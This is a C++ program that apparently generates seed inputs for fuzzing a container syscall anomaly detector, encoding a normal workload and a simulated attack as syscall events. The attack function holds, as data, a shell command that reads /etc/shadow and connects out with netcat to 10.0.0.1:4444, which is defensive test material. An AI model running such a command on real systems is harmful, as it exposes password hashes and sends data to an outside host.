// Writes starting inputs for the fuzz targets into CORPUS_DIR/<target>/, made by our own
// encoders so they always follow the current formats (no binary blobs in the repository):
//   make_seeds CORPUS_DIR
// Text inputs (Docker JSON, YAML, datasets) are copied from tests/data and the repository by
// fuzz/run.sh.
#include <fcntl.h>
#include <unistd.h>
#include <sys/syscall.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <iterator>

#include "alert/alert_format.h"
#include "core/json_text.h"
#include "detect/detector.h"
#include "detect/profile_store.h"
#include "fuzz_support.h"
#include "transport/wire_format.h"

namespace fs = std::filesystem;
using namespace da;

namespace {

const ContainerMeta kWeb{"web", "shop/web:1.0", "sha256:aaaa0000000000000000000000000000"};
const std::string kContainer(64, 'c');  // the container of fuzz::worker_call

SyscallEvent call(int64_t second, int32_t pid, int nr, std::vector<ArgValue> args = {}, int64_t ret = 0) {
  return fuzz::worker_call(second, pid, nr, std::move(args), ret);
}

// A worker's loop: open a config, read, reply on a socket, sleep.
std::vector<SyscallEvent> workload(int64_t second, int loops) {
  std::vector<SyscallEvent> out;
  for (int i = 0; i < loops; ++i) {
    out.push_back(call(second, 100, SYS_openat, {int64_t{-100}, std::string("/etc/app.conf"), int64_t{O_RDONLY}, uint64_t{0}}, 3));
    out.push_back(call(second, 100, SYS_read, {uint64_t{3}, uint64_t{0}, uint64_t{4096}}, 120));
    out.push_back(call(second, 100, SYS_close, {uint64_t{3}}));
    out.push_back(call(second, 100, SYS_connect, {uint64_t{4}, std::string("127.0.0.1:6379"), uint64_t{16}}));
    out.push_back(call(second, 100, SYS_sendto, {uint64_t{4}, uint64_t{0}, uint64_t{10}}, 10));
  }
  return out;
}

// An attack: a shell that reads a secret and connects out.
std::vector<SyscallEvent> attack(int64_t second) {
  const std::vector<std::string> argv{"sh", "-c", "cat /etc/shadow; nc 10.0.0.1 4444"};
  return {call(second, 200, SYS_execve, {std::string("/bin/sh"), argv, uint64_t{0}}),
          call(second, 200, SYS_openat, {int64_t{-100}, std::string("/etc/shadow"), int64_t{O_RDONLY}, uint64_t{0}}, 3),
          call(second, 200, SYS_dup2, {uint64_t{3}, uint64_t{0}}),
          call(second, 200, SYS_connect, {uint64_t{5}, std::string("10.0.0.1:4444"), uint64_t{16}})};
}

std::string batch(std::vector<SyscallEvent> events, uint64_t sequence) {
  EventBatch b;
  b.host = "host1";
  b.agent_id = "host1:4242";
  b.sequence = sequence;
  b.events = std::move(events);
  b.containers[kContainer] = kWeb;
  return encode_batch(b);
}

void write(const fs::path& dir, const std::string& name, const std::string& bytes) {
  fs::create_directories(dir);
  std::ofstream(dir / name, std::ios::binary | std::ios::trunc) << bytes;
}

std::string two_entries(const std::string& first, const std::string& second) {
  std::string out{static_cast<char>(first.size() & 0xff), static_cast<char>(first.size() >> 8)};
  return out + first + second;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 2) {
    std::fprintf(stderr, "usage: make_seeds CORPUS_DIR\n");
    return 2;
  }
  const fs::path corpus = argv[1];
  const std::string learned = batch(workload(1'800'000'000, 20), 1);
  const std::string attacked = batch(attack(1'800'000'100), 2);
  write(corpus / "fuzz_batch_decoder", "workload", learned);
  write(corpus / "fuzz_batch_decoder", "attack", attacked);
  write(corpus / "fuzz_consumer", "learn-then-attack", two_entries(learned, attacked));
  write(corpus / "fuzz_consumer", "learn-then-same", two_entries(learned, learned));

  // A stable profile as the engine writes it, and the alerts it raised on the attack.
  const fs::path state = fs::temp_directory_path() / ("da-seeds-" + std::to_string(::getpid()));
  ProfileStore store(state);
  std::vector<Anomaly> alerts;
  int64_t now = 1'800'000'000;
  DetectorConfig config;
  config.learning.min_seconds = 10;
  config.learning.max_seconds = 20;
  config.save_interval_seconds = 1;
  {
    Detector detector(config, &store, [&](const Anomaly& a) { alerts.push_back(a); },
                      [](const std::string&) {}, [&] { return now; });
    for (int second = 0; second < 25; ++second, ++now) {
      for (const auto& e : workload(now, 50)) detector.observe(e, "host1", kWeb);
      detector.tick();
    }
    for (const auto& e : attack(now)) detector.observe(e, "host1", kWeb);
    (void)detector.save_all();
  }
  const auto profiles = store.files();
  for (const auto& file : profiles) {
    std::ifstream in(file, std::ios::binary);
    write(corpus / "fuzz_profile_decoder", file.filename().string(),
          std::string(std::istreambuf_iterator<char>(in), {}));
  }
  fs::remove_all(state);
  int n = 0;
  for (const auto& a : alerts)
    write(corpus / "fuzz_outbox_json", "alert-" + std::to_string(n++) + ".json", json_text(anomaly_to_json(a)));
  std::printf("seeds: 2 batches, 2 consumer inputs, %zu profile(s), %d alert(s)\n",
              profiles.size(), n);
  return 0;
}
